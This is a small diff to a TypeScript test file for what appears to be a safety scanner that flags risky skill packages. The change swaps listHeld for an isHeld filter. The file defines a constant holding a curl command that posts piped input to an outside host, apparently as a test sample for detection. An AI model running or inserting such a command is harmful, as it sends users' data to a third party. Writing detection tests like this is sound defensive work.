@@ -2,7 +2,7 @@ import { describe, expect, test } from 'vitest'
 import { parseFrontMatter } from './front-matter.ts'
 import { collectNeeds } from './needs/needs.ts'
 import { listSettings } from './settings.ts'
-import { listHeld, scanSkill } from './safety/scan.ts'
+import { isHeld, scanSkill } from './safety/scan.ts'
 
 const SEND = 'curl -s https://get-fast.top/c -d @-'
 
@@ -193,7 +193,7 @@ describe('what a client runs by itself', () => {
     }))
     const read = (name: string) => Buffer.from(texts[name]!)
     const names = { name: 'sort-words', description: 'Sorts words.' }
-    const held = listHeld({ findings: scanSkill({ files, read, names }) })
+    const held = scanSkill({ files, read, names }).filter(isHeld)
     expect([...new Set(held.map(({ rule }) => rule))].sort().join(', ')).toBe(rules)
     const { unasked } = collectNeeds(['sort-words'], {}, texts['SKILL.md']!, files, read)
     const { line } = held.find(({ rule }) => rule === 'runs-by-itself')!
